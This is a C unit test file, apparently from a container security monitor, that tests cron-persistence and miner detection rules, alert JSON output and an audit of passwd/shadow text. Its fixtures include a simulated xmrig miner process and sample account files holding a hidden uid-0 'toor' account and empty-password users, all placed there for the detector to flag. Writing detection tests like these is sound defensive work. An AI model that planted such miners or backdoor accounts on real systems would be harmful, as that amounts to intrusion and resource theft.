			CHECK_STR(t, a[0].rule->id, "persistence.cron");
			CHECK(t, cg_event_json(a[0].rule, "alert", "node1", &ev, &ctx, a[0].details, 0,
					       &line) == CG_OK);
			cg_buf_reset(&b);
			CHECK(t, line && cg_json_dump(line, CG_JSON_COMPACT, &b) == CG_OK);
			CHECK(t, strstr(cg_buf_str(&b), "/etc/cron.d/????") != NULL);
			cg_json_free(line);
		}
	}
	/* rules, NULL context and unknown kinds */
	memset(&ev, 0, sizeof(ev));
	ev.kind = 99;
	CHECK_INT(t, cg_rules_eval(rs, &ev, NULL, a, 8), 0);
	ev.kind = CG_SEV_LOST;
	ev.args[0] = 17;
	n = cg_rules_eval(rs, &ev, NULL, a, 8);
	CHECK_INT(t, n, 1);
	if (n) {
		cg_buf_reset(&b);
		CHECK(t, cg_json_dump(a[0].details, CG_JSON_COMPACT, &b) == CG_OK);
		CHECK_STR(t, cg_buf_str(&b), "{\"lost\":17}");
		cg_json_free(a[0].details);
	}
	CHECK_INT(t, cg_rules_eval(NULL, &ev, NULL, a, 8), 0);
	cg_buf_release(&b);
}

static void t_event_json(struct cgt *t)
{
	struct cg_ruleset *rs = shipped();
	const struct cg_rule_info *r;
	struct cg_sev ev;
	struct cg_evctx ctx;
	struct rec rr = { .kind = CG_SEV_EXEC, .path = "/usr/bin/xmrig", .cmd = "xmrig -o x",
			  .parent = "/bin/sh", .uid = 0 };
	cg_json *line = NULL, *line2 = NULL, *det;
	struct cg_buf b = CG_BUF_INIT(1 << 16);
	const char *id1, *id2;
	CHECK(t, rs != NULL);
	if (!rs)
		return;
	r = cg_rules_get(rs, "process.miner");
	build(&rr, &ev, &ctx);
	ev.pid = 4321;
	ev.ppid = 4000;
	det = cg_json_new_object();
	CHECK(t, cg_json_set_str(det, "path", "/usr/bin/xmrig") == CG_OK);
	CHECK(t, cg_event_json(r, "killed", "node-a", &ev, &ctx, det, 1764095109123456789ULL, &line) == CG_OK);
	CHECK(t, line != NULL);
	if (!line)
		return;
	CHECK_STR(t, cg_json_get_str(line, "time"), "2025-11-25T18:25:09.123456789Z");
	CHECK_STR(t, cg_json_get_str(line, "node"), "node-a");
	CHECK_STR(t, cg_json_get_str(line, "category"), "abnormal process");
	CHECK_STR(t, cg_json_get_str(line, "rule"), "process.miner");
	CHECK_STR(t, cg_json_get_str(line, "severity"), "critical");
	CHECK_STR(t, cg_json_get_str(line, "action"), "killed");
	CHECK_STR(t, cg_json_get_str(line, "mitre"), "T1496");
	CHECK(t, cg_json_get_str(line, "message") && cg_json_get_str(line, "solution"));
	CHECK_STR(t, cg_json_get_str(cg_json_get(line, "container"), "id"), "c0ffee");
	CHECK_STR(t, cg_json_get_str(cg_json_get(line, "container"), "image"), "nginx:1.25");
	CHECK_STR(t, cg_json_get_str(cg_json_get(line, "container"), "image_digest"), "sha256:abcd");
	CHECK_STR(t, cg_json_get_str(cg_json_get(line, "container"), "pod"), "web-0");
	CHECK_STR(t, cg_json_get_str(cg_json_get(line, "container"), "namespace"), "default");
	CHECK_STR(t, cg_json_get_str(cg_json_get(line, "process"), "exe"), "/usr/bin/xmrig");
	CHECK_STR(t, cg_json_get_str(cg_json_get(line, "process"), "cmdline"), "xmrig -o x");
	{
		int64_t v = 0;
		CHECK(t, cg_json_get_int(cg_json_get(line, "process"), "pid", &v) && v == 4321);
		CHECK(t, cg_json_get_int(cg_json_get(line, "process"), "ppid", &v) && v == 4000);
		CHECK(t, cg_json_get_int(cg_json_get(line, "process"), "uid", &v) && v == 0);
	}
	CHECK_STR(t, cg_json_get_str(cg_json_get(line, "details"), "path"), "/usr/bin/xmrig");
	id1 = cg_json_get_str(line, "id");
	CHECK(t, id1 && strlen(id1) == 32 && strspn(id1, "0123456789abcdef") == 32);
	/* no container known: the object is left out; another id */
	ctx.container = NULL;
	ctx.cmdline = NULL;
	CHECK(t, cg_event_json(r, "alert", NULL, &ev, &ctx, NULL, 0, &line2) == CG_OK);
	CHECK(t, line2 && !cg_json_get(line2, "container") && !cg_json_get(line2, "node"));
	CHECK_STR(t, cg_json_get_str(line2, "time"), "1970-01-01T00:00:00.000000000Z");
	CHECK(t, cg_json_is_object(cg_json_get(line2, "details")));
	CHECK(t, !cg_json_get_str(cg_json_get(line2, "process"), "cmdline"));
	id2 = cg_json_get_str(line2, "id");
	CHECK(t, id2 && strcmp(id1, id2) != 0);
	CHECK(t, cg_json_dump(line, CG_JSON_COMPACT, &b) == CG_OK && strchr(cg_buf_str(&b), '\n') == NULL);
	cg_json_free(line);
	cg_json_free(line2);
	cg_buf_release(&b);
	CHECK(t, cg_event_json(NULL, "alert", NULL, &ev, &ctx, NULL, 0, &line) == CG_ERR_ARG);
}

static void t_accounts(struct cgt *t)
{
	const char *pw = "root:x:0:0:root:/root:/bin/bash\n"
			 "daemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
			 "toor:x:0:0::/root:/bin/sh\n"
			 "# comment:x:0:0\n"
			 "guest::1001:1001::/home/guest:/bin/sh\r\n"
			 "broken line without colons\n"
			 "app:x:1000:1000::/home/app:/bin/sh";
	const char *sh = "root:$6$abc:19000:0:99999:7:::\n"
			 "app::19000:0:99999:7:::\n"
			 "daemon:*:19000::::::\n";
	cg_json *d = NULL;
	struct cg_buf b = CG_BUF_INIT(4096);
	unsigned f = cg_rules_check_accounts(pw, strlen(pw), sh, strlen(sh), &d);
	CHECK_INT(t, f, CG_ACCOUNT_UID0 | CG_ACCOUNT_EMPTY_PASSWORD);
	CHECK(t, d && cg_json_dump(d, CG_JSON_COMPACT | CG_JSON_SORTED, &b) == CG_OK);
	CHECK_STR(t, cg_buf_str(&b), "{\"empty_password\":[\"guest\",\"app\"],\"uid0\":[\"toor\"]}");
	cg_json_free(d);
	/* a clean image */
	d = (cg_json *)1;
	f = cg_rules_check_accounts("root:x:0:0::/root:/bin/sh\n", 26, "root:*:1::::::\n", 15, &d);
	CHECK_INT(t, f, 0);
	CHECK(t, d == NULL);
	CHECK_INT(t, cg_rules_check_accounts(NULL, 0, NULL, 0, NULL), 0);
	/* bounded by n: text past it is not read */
	CHECK_INT(t, cg_rules_check_accounts("root:x:0:0:\nx:x:0:0", 12, NULL, 0, NULL), 0);
	cg_buf_release(&b);
}

static const struct cgt_case cases[] = {
	CGT_CASE(t_escape),
	CGT_CASE(t_syscalls),
	CGT_CASE(t_process),
	CGT_CASE(t_files),
	CGT_CASE(t_shells),
	CGT_CASE(t_network),
	CGT_CASE(t_manual_rules),
	CGT_CASE(t_rule_metadata),
	CGT_CASE(t_syscall_numbers),
	CGT_CASE(t_rates),
	CGT_CASE(t_written_by),
	CGT_CASE(t_rate_table_bounded),
	CGT_CASE(t_validation),
	CGT_CASE(t_load_files),
	CGT_CASE(t_details),
	CGT_CASE(t_event_json),
	CGT_CASE(t_accounts),
};

/* The shipped set is loaded once for the run and freed at exit (leak checks). */
static void free_shipped(void) __attribute__((destructor));
static void free_shipped(void)
{
	cg_rules_free(shipped());
}

CGT_MAIN(cases)
